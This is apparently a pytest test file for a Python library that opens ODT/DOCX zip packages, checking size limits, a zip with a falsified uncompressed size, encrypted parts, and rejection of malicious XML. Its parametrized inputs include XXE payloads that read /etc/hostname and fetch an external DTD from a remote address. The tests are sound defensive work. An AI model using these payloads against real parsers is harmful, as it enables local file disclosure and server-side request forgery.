from __future__ import annotations

import io
import zipfile

import pytest

from actes.errors import InputTooLarge, InputUnreadable
from actes.read import package
from actes.read.package import open_package, part, xml


def archive(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for path, content in members.items():
            file.writestr(path, content)
    return buffer.getvalue()


def test_part() -> None:
    with open_package(archive(a=b"Vu"), "acte.odt") as file:
        assert part(file, "a", "acte.odt") == b"Vu"
        assert part(file, "b", "acte.odt") is None


def test_part_that_is_too_large(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(package, "MAX_PART", 10)
    with (
        open_package(archive(a=b"x" * 11), "acte.odt") as file,
        pytest.raises(InputTooLarge, match=r"^acte\.odt : a se décompresse"),
    ):
        part(file, "a", "acte.odt")


def test_part_that_announces_less_than_it_holds_never_expands() -> None:
    data = bytearray(archive(a=b"x" * 5_000_000))
    announced = (5_000_000).to_bytes(4, "little")
    lied = bytes(data).replace(announced, (50).to_bytes(4, "little"))
    with open_package(lied, "a") as file, pytest.raises(InputUnreadable, match="est endommagé"):
        part(file, "a", "a")


def test_encrypted_part() -> None:
    data = bytearray(archive(a=b"Vu le code"))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    with open_package(bytes(data), "a") as file, pytest.raises(InputUnreadable, match="mot de passe"):
        part(file, "a", "a")


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"<a>",
        b"<a>&b;</a>",
        b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
        b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>',
        b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://192.0.2.1/b.dtd"> %b;]><a/>',
        b"<?xml version='1.0' encoding='no-such'?><a/>",
        b"<a>" * 5000 + b"</a>" * 5000,
    ],
)
def test_xml_that_is_refused(data: bytes) -> None:
    with pytest.raises(InputUnreadable, match=r"^acte\.docx : p\.xml "):
        xml(data, "p.xml", "acte.docx")


def test_xml_without_comments() -> None:
    root = xml(b"<?xml version='1.0'?><!DOCTYPE a><a>Vu<!-- x --> le<?pi x?> code</a>", "p", "a")
    assert "".join(str(text) for text in root.itertext()) == "Vu le code"
